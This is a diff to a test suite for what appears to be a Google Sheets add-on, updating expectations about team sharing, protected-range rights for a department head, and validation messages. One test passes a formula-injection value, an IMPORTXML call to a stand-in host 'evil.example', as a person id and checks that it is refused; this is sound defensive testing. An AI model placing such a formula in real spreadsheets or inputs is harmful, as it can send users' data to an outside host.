@@ -180,8 +180,9 @@ describe('sharing with the team', () => {
   it('takes the protected-range rights of a head who left the team away, at once and when shared again', () => {
     const emulator = builtTemplate();
     shareWithTeam({ personIds: ['anna', 'vera']});
-    saveTeam(teamWith([VERA, OLEG]));
-    expect(protectionsOf(emulator, KPI_TAB_NAME).every((p) => p.editors.join() === OWNER)).toBe(true);
+    // Vera takes over as head: a locked team must keep one (tests/server/lock-way-out.test.ts).
+    saveTeam(teamWith([{ ...VERA, roleId: 'head' }, OLEG]));
+    expect(protectionsOf(emulator, KPI_TAB_NAME).every((p) => p.editors.join() === [OWNER, VERA.email].join())).toBe(true);
 
     const again = shareWithTeam({ personIds: ['vera']});
     expect(again.details).toContain(
@@ -190,7 +191,7 @@ describe('sharing with the team', () => {
     expect(emulator.spreadsheetSnapshot().sheets.flatMap((sheet) => sheet.protections).every((p) => !p.editors.includes(ANNA.email))).toBe(true);
     emulator.setActiveUser(ANNA.email);
     expect(() => kpiSheet(emulator).getRange('B2').setValue('Mine now')).toThrow(PROTECTED_CELL_MESSAGE);
-    expect(() => buildKpiTemplate(testSettings())).toThrow(/only the spreadsheet's owner can change its structure/);
+    expect(() => buildKpiTemplate(testSettings())).toThrow(/only the head of the department \(Vera\) or the spreadsheet's owner can change its structure/);
   });
 
   it('gives a newly appointed head the rights at once', () => {
@@ -208,8 +209,8 @@ describe('refused or harmless input', () => {
     builtTemplate();
     expect(() => saveTeam(teamWith([{ ...VERA, email: 'vera@' }]))).toThrow('Person 1 (Vera), email: "vera@" is not an email address');
     expect(() => saveTeam(teamWith([{ ...VERA, roleId: 'astrologer' }]))).toThrow('role: "astrologer" is not one of the team\'s roles');
-    expect(() => shareWithTeam({ personIds: ['=IMPORTXML("http://evil.example", "//a")']})).toThrow(userMessage(/^The sharing request is not valid: personIds\.0/));
-    expect(() => shareWithTeam({ personIds: 'vera' })).toThrow(userMessage(/^The sharing request is not valid: personIds/));
+    expect(() => shareWithTeam({ personIds: ['=IMPORTXML("http://evil.example", "//a")']})).toThrow(userMessage(/^The sharing request is not valid: person 1: "=IMPORTXML\("http:\/\/evil\.example", "\/\/a"\)" is not a valid id/));
+    expect(() => shareWithTeam({ personIds: 'vera' })).toThrow(userMessage(/^The sharing request is not valid: people to share with: must be a list$/));
     expect(() => shareWithTeam({ personIds: ['nobody']})).toThrow('These people are no longer in the team: nobody.');
   });
 
@@ -307,7 +308,7 @@ describe('nobody locked out for good', () => {
     shareWithTeam({ personIds: ['anna', 'vera'] });
     emulator.setActiveUser('guest@other.example', { emailHidden: true });
     expect(() => saveSettings(testSettings({ departmentName: 'Guests' }))).toThrow(
-      userMessage(/^Google did not tell the add-on who you are, .* signed in to one Google account only .* Release the structure lock\.$/),
+      userMessage(/^Google did not tell the add-on who you are, .* signed in to one Google account only .* Release the structure lock, or the same button under Share with the team in the sidebar\.$/),
     );
   });
 
